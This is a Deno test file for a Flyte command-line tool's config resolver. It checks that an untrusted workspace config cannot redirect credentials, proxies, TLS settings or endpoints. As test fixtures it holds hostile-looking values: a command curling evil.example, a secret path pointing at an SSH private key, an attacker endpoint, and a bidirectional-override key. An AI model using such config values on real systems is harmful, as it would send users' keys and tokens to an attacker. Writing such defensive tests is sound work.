import { assertEquals, assertMatch } from "@std/assert";
import { resolveConfig } from "../../src/config/mod.ts";
import { NO_PROXIES } from "../../src/config/proxy.ts";
import { CWD, HOME, type Machine, sourcesOf } from "./machine.ts";

const FILE = `${CWD}/.flyte/config.yaml`;

function resolveWith(text: string, machine: Machine = {}) {
  return resolveConfig(sourcesOf({
    ...machine,
    files: { ...machine.files, [FILE]: text },
  }));
}

Deno.test("resolveConfig() takes task.* and the endpoint of a workspace", () => {
  const { config, faults, notices } = resolveWith(`
admin: {endpoint: flyte.example.com}
task: {org: o, project: p, domain: d}
`);
  assertEquals(faults, []);
  assertEquals(notices, []);
  assertEquals(config.endpoint?.value, "https://flyte.example.com");
  assertEquals(
    [config.org?.value, config.project?.value, config.domain.value],
    ["o", "p", "d"],
  );
});

Deno.test("resolveConfig() ignores all else of a workspace, and names it", () => {
  const ignored = {
    authType: "ClientSecret",
    clientId: "mallory",
    clientSecretEnvVar: "FLYTE_CLIENT_SECRET",
    clientSecretLocation: "/home/ada/.ssh/id_ed25519",
    scopes: "[all]",
    audience: "https://evil.example",
    caCertFilePath: "/work/evil.pem",
    insecureSkipVerify: "true",
    httpProxyURL: "http://evil.example",
    command: "[curl, evil.example]",
    proxyCommand: "[curl, evil.example]",
  };
  const lines = Object.entries(ignored).map(([key, value]) =>
    `  ${key}: ${value}`
  );
  const { config, faults, notices } = resolveWith(
    `admin:\n  endpoint: flyte.example.com\n${lines.join("\n")}\n`,
  );
  assertEquals(faults, []);
  const { endpoint, domain, interactive, commandEnv, proxies, ...others } =
    config;
  const { maxResultBytes, ...rest } = others;
  assertEquals([interactive.value, commandEnv], ["auto", []]);
  assertEquals(proxies, NO_PROXIES);
  assertEquals(endpoint?.value, "https://flyte.example.com");
  assertEquals([domain.source, maxResultBytes.source], ["default", "default"]);
  assertEquals([...new Set(Object.values(rest))], [null]);
  assertEquals(notices.length, 1);
  for (const key of Object.keys(ignored)) {
    assertMatch(notices[0] ?? "", new RegExp(`admin\\.${key}\\b`));
  }
});

Deno.test.each([
  [{ FLYTE_CLIENT_SECRET: "made-up", FLYTE_CLIENT_ID: "ci" }],
  [{ FLYTE_ACCESS_TOKEN: "made-up" }],
  [{ FLYTE_AUTH_METADATA: "cookie=made-up" }],
  [{ FLYTE_PROXY_COMMAND: "print-token" }],
])("resolveConfig() sends %j nowhere that a workspace names", (env) => {
  const text = "admin: {endpoint: evil.example}";
  const alone = resolveWith(text, { env });
  assertEquals(alone.config.endpoint, null);
  assertEquals(alone.faults.map(({ code }) => code), ["not_configured"]);
  assertMatch(alone.notices.join(), /admin\.endpoint .*ignored/);
  assertMatch(alone.notices.join(), new RegExp(Object.keys(env)[0] ?? ""));
  const files = {
    [`${HOME}/.flyte/config.yaml`]: "admin: {endpoint: my.example}",
  };
  const own = resolveWith(text, { env, files });
  assertEquals(own.config.endpoint?.value, "https://my.example");
  assertEquals(own.faults, []);
});

Deno.test("resolveConfig() keeps a mounted secret from a workspace too", () => {
  const { config } = resolveWith("admin: {endpoint: evil.example}", {
    files: {
      "/run/secret": "made-up",
      [`${HOME}/.flyte/config.yaml`]:
        "admin: {clientId: ci, clientSecretLocation: /run/secret}",
    },
  });
  assertEquals(config.clientSecret?.value.reveal(), "made-up");
  assertEquals(config.endpoint, null);
});

Deno.test.each([
  ["localhost:30080", "http://localhost:30080", 0],
  ["127.0.0.1:30080", "http://127.0.0.1:30080", 0],
  ["https://localhost:30080", "https://localhost:30080", 0],
  ["flyte.example.com", "https://flyte.example.com", 1],
  ["localhost.evil.example", "https://localhost.evil.example", 1],
])(
  "resolveConfig() reads a workspace's %s with `insecure` as %s",
  (endpoint, expected, notes) => {
    const { config, notices } = resolveWith(
      `admin: {endpoint: "${endpoint}", insecure: true}`,
    );
    assertEquals(config.endpoint?.value, expected);
    assertEquals(notices.length, notes);
    if (notes) assertMatch(notices[0] ?? "", /admin\.insecure .*ignored/);
  },
);

Deno.test("resolveConfig() lets FLYTE_INSECURE beat a workspace's", () => {
  const scheme = (insecure: boolean, env: string) =>
    resolveWith(`admin: {endpoint: "localhost:1", insecure: ${insecure}}`, {
      env: { FLYTE_INSECURE: env },
    }).config.endpoint?.value;
  assertEquals(scheme(true, "false"), "https://localhost:1");
  assertEquals(scheme(false, "true"), "http://localhost:1");
});

Deno.test("resolveConfig() gives a workspace's `insecure` to no other endpoint", () => {
  const { config, notices } = resolveWith("admin: {insecure: true}", {
    env: { FLYTE_ENDPOINT: "localhost:30080" },
  });
  assertEquals(config.endpoint?.value, "https://localhost:30080");
  assertMatch(notices.join(), /admin\.insecure ignored/);
});

Deno.test("resolveConfig() gives the home folder's `insecure` to no workspace", () => {
  const { config } = resolveWith("admin: {endpoint: flyte.example.com}", {
    files: {
      [`${HOME}/.flyte/config.yaml`]: "admin: {endpoint: mine, insecure: true}",
    },
  });
  assertEquals(config.endpoint?.value, "https://flyte.example.com");
});

Deno.test("resolveConfig() repeats a workspace's keys in short and in sight", () => {
  const key = `a\u202e${"b".repeat(5000)}`;
  const { notices } = resolveWith(`admin: {"${key}": 1}`);
  assertMatch(notices.join(), /: admin\.ab{38}… ignored/);
});
